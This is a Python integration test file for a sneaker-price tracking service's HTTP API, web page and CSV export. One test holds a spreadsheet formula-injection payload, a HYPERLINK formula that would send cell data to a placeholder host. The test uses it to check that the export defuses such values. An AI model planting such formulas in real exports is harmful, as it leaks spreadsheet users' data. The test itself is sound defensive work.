"""The prices going out over HTTP (GET /prices/history, /prices with several SKUs, user_id
and a cursor, /prices.csv, /jobs?user_id=) and on the page, against a real loopback server,
a real SQLite file and a FakeClock; prices are written through the store as a batch would."""

from __future__ import annotations

import csv
import io
from typing import Any

from bs4 import BeautifulSoup

from marketd.clock import FakeClock, iso
from marketd.models import Price
from marketd.store import Outcomes
from tests.integration.test_web_api import Api, MakeApi, api, make_api  # noqa: F401 - fixtures


async def store_prices(target: Api, *prices: Price) -> None:
    await target.daemon.store.record(Outcomes(prices=list(prices)))


def p(clock: FakeClock, ask: int | None, sku: str = "DD1391-100", size: str | None = "10",
      provider: str = "stockx", currency: str = "GBP") -> Price:
    return Price(provider, sku, size, currency, ask, None, None, clock.now())


async def test_history_one_point_per_change(api: Api) -> None:  # noqa: F811
    """Three fetches of one unchanged price leave one point; a change adds one; oldest first;
    since filters; size_system names the key like /prices."""
    clock = api.clock
    t0 = clock.now()
    for ask in (9600, 9600, 9600, 9900):
        await store_prices(api, p(clock, ask))
        clock.advance(60)
    await store_prices(api, p(clock, 500, size="EU 44"))
    body = await api.get("/prices/history?provider=stockx&sku=dd1391-100&size=10")
    assert body["history"] == [
        {"fetched_at": iso(t0), "currency": "GBP", "lowest_ask": "96.00", "highest_bid": None,
         "last_sale": None},
        {"fetched_at": iso(t0 + 180), "currency": "GBP", "lowest_ask": "99.00",
         "highest_bid": None, "last_sale": None}]
    later = await api.get(f"/prices/history?provider=stockx&sku=DD1391-100&size=10"
                          f"&since={iso(t0 + 1)}")
    assert [h["lowest_ask"] for h in later["history"]] == ["99.00"]
    eu = await api.get("/prices/history?provider=stockx&sku=DD1391-100&size=44&size_system=EU")
    assert [h["lowest_ask"] for h in eu["history"]] == ["5.00"] and eu["size"] == "EU 44"


async def test_history_refuses_bad_input(api: Api) -> None:  # noqa: F811
    for query, field in (("sku=A", "provider"), ("provider=stockx", "sku"),
                         ("provider=nope&sku=A", "provider"),
                         ("provider=stockx&sku=A&since=yesterday", "since"),
                         ("provider=stockx&sku=A&since=2026-01-01T00:00:00", "since"),
                         ("provider=stockx&sku=A&size=huge", "size")):
        body = await api.get(f"/prices/history?{query}", status=400)
        assert body["field"] == field, query


async def test_page_draws_an_items_history(api: Api) -> None:  # noqa: F811
    """The page links each price to its history and draws it as a chart."""
    clock = api.clock
    for ask in (9600, 9700, 9700):
        await store_prices(api, p(clock, ask))
        clock.advance(3600)
    resp = await api.client.get("/")
    doc = BeautifulSoup(await resp.text(), "html.parser")
    link = doc.select_one("#prices td.sku a")
    assert link is not None and doc.select_one("#history") is None
    resp = await api.client.get(str(link["href"]))
    doc = BeautifulSoup(await resp.text(), "html.parser")
    section = doc.select_one("#history")
    assert section is not None and "stockx|DD1391-100|10" in section.get_text()
    chart = section.select_one("svg")
    assert chart is not None and len(chart.select("circle")) == 2  # two changes of the ask
    assert "2 point(s)" in section.get_text()


def _rows(body: dict[str, Any]) -> list[tuple[str, str, str | None]]:
    return [(r["provider"], r["sku"], r["size"]) for r in body["prices"]]


async def test_prices_several_skus_user_and_cursor(api: Api) -> None:  # noqa: F811
    """/prices takes several sku, a user_id, and pages with a cursor: following `next` from
    limit=3 gives every row once, and the last page says there is no next."""
    clock = api.clock
    await store_prices(api, *(p(clock, 100 + i, sku=f"S-{i}", size=size)
                              for i in range(4) for size in ("9", "10")))
    body = await api.get("/prices?sku=s-1&sku=S-3")
    assert {r["sku"] for r in body["prices"]} == {"S-1", "S-3"}
    assert body["next_cursor"] is None and body["next"] is None
    seen: list[tuple[str, str | None]] = []
    path: str | None = "/prices?limit=3"
    pages = 0
    while path is not None:
        page = await api.get(path)
        seen += [(r["sku"], r["size"]) for r in page["prices"]]
        path = page["next"]
        pages += 1
    assert pages == 3 and len(seen) == 8 and len(set(seen)) == 8
    await api.enqueue({"jobs": [{"provider": "stockx", "sku": "S-2", "size": "9",
                                 "user_id": "alice"},
                                {"provider": "stockx", "sku": "S-0", "size": "10",
                                 "user_id": "bob", "priority": "manual"}]})
    # alice's job was answered 'fresh' (no job row): her key is hers all the same
    mine = await api.get("/prices?user_id=alice")
    assert [(r["sku"], r["size"]) for r in mine["prices"]] == [("S-2", "9")]
    jobs = await api.get("/jobs?user_id=bob")
    assert [j["sku"] for j in jobs["jobs"]] == ["S-0"]
    bad = await api.get("/prices?cursor=notacursor", status=400)
    assert bad["field"] == "cursor"


async def test_prices_csv_never_starts_a_formula(api: Api) -> None:  # noqa: F811
    """A catalog's text that a spreadsheet would run (=, +, -, @, tab) gets a leading
    apostrophe in /prices.csv; /prices keeps it as the provider gave it; amounts untouched."""
    clock = api.clock
    await store_prices(api, p(clock, 9600))
    evil = '=HYPERLINK("http://x.example/?"&A1,"Panda")'
    await api.daemon.store.put_catalog("stockx", "DD1391-100", product_id="x", title=evil,
                                       brand="+Nike", colourway="@White", image_url="\thttp://i")
    lines = list(csv.reader(io.StringIO(await (await api.client.get("/prices.csv")).text())))
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["title"] == "'" + evil and row["brand"] == "'+Nike"
    assert row["colourway"] == "'@White" and row["image_url"] == "'\thttp://i"
    assert row["sku"] == "DD1391-100" and row["lowest_ask"] == "96.00"
    [as_json] = (await api.get("/prices"))["prices"]
    assert as_json["title"] == evil


async def test_prices_csv_equals_prices(api: Api) -> None:  # noqa: F811
    """GET /prices.csv: text/csv, the contract's header, the same rows and values as /prices
    (empty for null); everything without a limit; with one, a Link to the next page."""
    clock = api.clock
    flex = Price("stockx", "C-1", "9", "GBP", 100, None, None, clock.now(),
                 extra=(("flex_lowest_ask", 104), ("sell_faster", 99)))
    await store_prices(api, p(clock, 9600), p(clock, None, sku="B-1", size=None),
                       p(clock, 12345, sku="A,1", provider="alias", currency="USD"), flex)
    await api.daemon.store.put_catalog("stockx", "DD1391-100", product_id="x",
                                       title='Nike Dunk "Panda", Low', brand="Nike",
                                       colourway="White/Black", image_url="https://i/p.png")
    resp = await api.client.get("/prices.csv")
    assert resp.status == 200 and resp.content_type == "text/csv"
    text = await resp.text()
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][:8] == ["provider", "sku", "size", "currency", "lowest_ask",
                            "highest_bid", "last_sale", "fetched_at"]
    assert lines[0][8:] == ["title", "brand", "colourway", "image_url", "flex_lowest_ask",
                            "earn_more", "sell_faster"]
    as_json = (await api.get("/prices"))["prices"]
    assert lines[1:] == [["" if r[c] is None else r[c] for c in lines[0][:12]]
                         + [r["extra"].get(c) or "" for c in lines[0][12:]] for r in as_json]
    resp = await api.client.get("/prices.csv?limit=2")
    first = list(csv.reader(io.StringIO(await resp.text())))
    assert len(first) == 3 and 'rel="next"' in resp.headers["Link"]
    nxt = resp.headers["Link"].split(">")[0].lstrip("<")
    rest = list(csv.reader(io.StringIO(await (await api.client.get(nxt)).text())))
    assert first[1:] + rest[1:] == lines[1:]
    one = list(csv.reader(io.StringIO(await (await api.client.get(
        "/prices.csv?provider=alias")).text())))
    assert [r[1] for r in one[1:]] == ["A,1"]
    by_sku = {r[1]: r for r in lines[1:]}
    assert by_sku["DD1391-100"][8:12] == ['Nike Dunk "Panda", Low', "Nike", "White/Black",
                                         "https://i/p.png"]
    assert by_sku["C-1"][12:] == ["1.04", "", "0.99"]
    c1 = next(r for r in as_json if r["sku"] == "C-1")
    assert c1["extra"] == {"flex_lowest_ask": "1.04", "sell_faster": "0.99"}
    assert c1["title"] is None


async def test_status_and_page_show_the_database(api: Api) -> None:  # noqa: F811
    """/status and the page show the database's size and rows per table."""
    await store_prices(api, p(api.clock, 1))
    body = await api.get("/status")
    db = body["database"]
    assert db["size_bytes"] > 0 and db["rows"]["market_prices"] == 1
    doc = BeautifulSoup(await (await api.client.get("/")).text(), "html.parser")
    row = doc.select_one('#database tr[data-table="market_prices"]')
    assert row is not None and row.select("td")[1].get_text() == "1"
    assert "MiB" in doc.select_one("#db-size").get_text()  # type: ignore[union-attr]


async def test_portfolio_side_by_side_with_fx(make_api: MakeApi) -> None:  # noqa: F811
    """The page's portfolio: a row per SKU and size users asked for, the providers side by
    side in their own currencies, USD converted with [fx] (labelled) to pick the best."""
    made = await make_api(fx={"USD": 0.8})
    clock = made.clock
    await made.daemon.store.record(Outcomes(
        prices=[p(clock, 10000), p(clock, 11000, provider="alias", currency="USD"),
                p(clock, 13000, provider="ebay"), p(clock, 500, sku="OTHER")],
        wanted=[("stockx", "DD1391-100", "10", "10", "UK")]))
    await made.daemon.store.put_catalog("alias", "DD1391-100", product_id="x",
                                       title="Nike Dunk Low Panda",
                                       image_url="https://img.example/p.png")
    doc = BeautifulSoup(await (await made.client.get("/")).text(), "html.parser")
    rows = doc.select("#portfolio tr[data-sku]")
    assert [r["data-sku"] for r in rows] == ["DD1391-100"]  # only what users asked for
    row = rows[0]
    assert "Nike Dunk Low Panda" in row.get_text()
    cells = {td["data-provider"]: td for td in row.select("td.cell")}
    alias = cells["alias"].get_text(" ", strip=True)
    assert "110.00 USD" in alias and "≈ 88.00 GBP" in alias  # converted, labelled
    best = row.select_one(".lowest_ask.best")
    assert best is not None and best.find_parent("td")["data-provider"] == "alias"
    assert "1 USD = 0.8 GBP" in doc.select_one("#portfolio p").get_text()  # type: ignore


async def test_portfolio_without_rates_compares_one_currency(api: Api) -> None:  # noqa: F811
    clock = api.clock
    await api.daemon.store.record(Outcomes(
        prices=[p(clock, 10000), p(clock, 9000, provider="alias", currency="USD")],
        wanted=[("alias", "DD1391-100", "10", "10", "UK")]))
    doc = BeautifulSoup(await (await api.client.get("/")).text(), "html.parser")
    row = doc.select_one("#portfolio tr[data-sku]")
    assert row is not None and "≈" not in row.get_text()
    # USD without a rate is shown in USD but compared with nothing: no best to mark
    assert row.select_one(".lowest_ask.best") is None
    assert "90.00 USD" in row.get_text() and "100.00 GBP" in row.get_text()


async def test_the_pages_lists_are_paged_never_cut(api: Api) -> None:  # noqa: F811
    """The page's portfolio and latest prices show a page at a time with a next link while
    more follow, and walking the links shows every item and every price exactly once."""
    from marketd.page import PORTFOLIO_KEYS, PRICES_SHOWN

    clock = api.clock
    n = max(PORTFOLIO_KEYS, PRICES_SHOWN) + 5
    await api.daemon.store.record(Outcomes(
        prices=[p(clock, 1000 + i, sku=f"S-{i:04d}") for i in range(n)],
        wanted=[("stockx", f"S-{i:04d}", "10", "10", "UK") for i in range(n)]))

    async def walk(section: str, rows: str) -> tuple[list[str], int]:
        seen: list[str] = []
        pages = 0
        path: str | None = "/"
        while path is not None:
            doc = BeautifulSoup(await (await api.client.get(path)).text(), "html.parser")
            seen += [r.get_text(" ", strip=True) for r in doc.select(rows)]
            nxt = doc.select_one(f"#{section}-pages a[rel=next]")
            path = str(nxt["href"]) if nxt is not None else None
            pages += 1
        return seen, pages

    items, pages = await walk("portfolio", "#portfolio tr[data-sku] td.sku")
    assert items == [f"S-{i:04d}" for i in range(n)] and pages == 2
    prices, pages = await walk("prices", "#prices td.sku a")
    assert prices == [f"S-{i:04d}" for i in range(n)] and pages == 2
    first = BeautifulSoup(await (await api.client.get("/")).text(), "html.parser")
    assert "prices.csv" in first.select_one("#prices-pages").get_text()  # type: ignore[union-attr]
    assert [a.get_text() for a in first.select("#portfolio-pages a")] == ["next items"]
    # a cursor marketd did not give shows the first page, never an error
    resp = await api.client.get("/?items_after=%%%&prices_after=bm90IGpzb24")
    assert resp.status == 200


async def test_export_with_fx_rates_adds_converted_amounts(make_api: MakeApi) -> None:  # noqa: F811
    """With [fx] rates the export adds the home-currency amounts, labelled; the prices
    themselves stay in their own currency; a currency without a rate converts to nothing."""
    made = await make_api(fx={"USD": 0.5})
    clock = made.clock
    await made.daemon.store.record(Outcomes(prices=[
        p(clock, 1000), p(clock, 1000, provider="alias", currency="USD"),
        p(clock, 1000, provider="ebay", currency="EUR")]))
    body = (await (await made.client.get("/prices")).json())["prices"]
    by = {r["provider"]: r for r in body}
    assert by["alias"]["lowest_ask"] == "10.00" and by["alias"]["currency"] == "USD"
    assert by["alias"]["fx"] == {"currency": "GBP", "converted": True, "lowest_ask": "5.00",
                                 "highest_bid": None, "last_sale": None}
    assert by["stockx"]["fx"]["converted"] is False
    assert by["ebay"]["fx"]["lowest_ask"] is None
    lines = list(csv.reader(io.StringIO(await (await made.client.get("/prices.csv")).text())))
    assert lines[0][-5:] == ["fx_currency", "fx_lowest_ask", "fx_highest_bid", "fx_last_sale",
                             "fx_converted"]
    alias = next(line for line in lines[1:] if line[0] == "alias")
    assert alias[-5:] == ["GBP", "5.00", "", "", "true"]
